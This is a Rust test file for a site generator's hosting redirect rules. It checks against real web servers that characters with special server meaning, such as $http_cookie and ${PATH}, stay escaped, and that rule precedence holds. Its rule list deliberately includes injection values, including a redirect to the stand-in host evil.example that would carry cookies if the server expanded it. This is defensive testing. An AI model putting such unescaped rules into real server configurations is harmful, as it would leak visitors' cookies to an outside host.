//! Rules whose letters mean something to a server, and rules that come before a page: in real servers.

use super::local;
use crate::serve::request;
use crate::support::SiteTest;
use crate::support::web_server::{Program, WebServer};
use percent_encoding::percent_decode_str;
use sitegen::config::Redirect;
use sitegen::deploy::hosting::{Rules, Snippet};

const RULES: [&str; 12] = [
    "/lek https://evil.example/?c=$http_cookie&d={$PATH}&e=${PATH} 301",
    "/lek/* /x{$PATH}${PATH}$http_cookie/:splat 302",
    "/weg-{$PATH}-${PATH} /404.html 410",
    "/a$b{c}\"d;e'f%20g /contact 301",
    "/p$b{c}\"d;e%20f/* /contact/:splat 301",
    "/c%5Cd/* /x/:splat 301",
    "/contact id=:id /vacatures?zoek=:id 302!",
    "/ taal=de /contact 302!",
    "/over-wt /404.html 410!",
    "/vacatures/vacature-2 /contact 301!",
    "/vacatures/* https://werk.example/:splat 302!",
    "/vacatures/vacature-3 /contact 301!",
];
const PROMISED: [(&str, &str); 18] = [
    (
        "/lek",
        "301 https://evil.example/?c=%24http_cookie&d=%7B%24PATH%7D&e=%24%7BPATH%7D",
    ),
    ("/lek/y", "302 /x%7B%24PATH%7D%24%7BPATH%7D%24http_cookie/y"),
    ("/weg-%7B$PATH%7D-$%7BPATH%7D", "410"),
    ("/weg-%7b%24PATH%7d-%24%7bPATH%7d", "410"),
    ("/a$b%7Bc%7D%22d;e'f%20g", "301 /contact"),
    ("/p$b%7Bc%7D%22d;e%20f/x", "301 /contact/x"),
    ("/p%24b%7bc%7d%22d%3be%20f/x", "301 /contact/x"),
    ("/c%5Cd/y", "301 /x/y"),
    ("/contact?id=7", "302 /vacatures?zoek=7"),
    ("/contact", "200"),
    ("/?taal=de", "302 /contact"),
    ("/?taal=nl", "200"),
    ("/over-wt", "410"),
    ("/vacatures/vacature-2", "301 /contact"),
    // A rule for one path beats a pattern, wherever it stands.
    ("/vacatures/vacature-3", "301 /contact"),
    ("/vacatures/vacature-4", "302 https://werk.example/vacature-4"),
    ("/vacatures/weg/x?a=1", "302 https://werk.example/weg/x?a=1"),
    ("/index.html", "301 /"),
];

/// Starts a server with those rules, and asks it and `sitegen serve`.
pub(super) fn are_answered(program: Program, snippet: fn(&Rules) -> Snippet) {
    let mut site = SiteTest::small();
    let rules = RULES.map(|rule| Redirect::parse(rule).unwrap());
    site.configure(|config| config.redirects = rules.into());
    site.build();
    let snippet = snippet(&Rules::from_site(&local(&site)).unwrap());
    assert_eq!(snippet.left_out, Vec::<String>::new());
    let server = WebServer::start(program, site.out(), &snippet.text);
    let decoded = |text: &str| percent_decode_str(text).decode_utf8().unwrap().into_owned();
    let mut wrong = Vec::new();
    for (address, promised) in PROMISED {
        let reply = server.get(address);
        let found = format!("{} {}", reply.status, reply.header("location"));
        let served = site.block_on(request(site.out(), address));
        let location = served.header("location".parse().unwrap());
        let served = format!("{} {}", served.status.as_u16(), decoded(location));
        if found.trim_end() != promised || served.trim_end() != decoded(promised) {
            wrong.push(format!(
                "{address}: `{found}`, served as `{served}`, instead of `{promised}`"
            ));
        }
    }
    assert!(wrong.is_empty(), "{program:?}:\n{}", wrong.join("\n"));
    let gone = server.get("/weg-%7B$PATH%7D-$%7BPATH%7D");
    assert_eq!(gone.body, site.read("404.html").as_bytes());
}
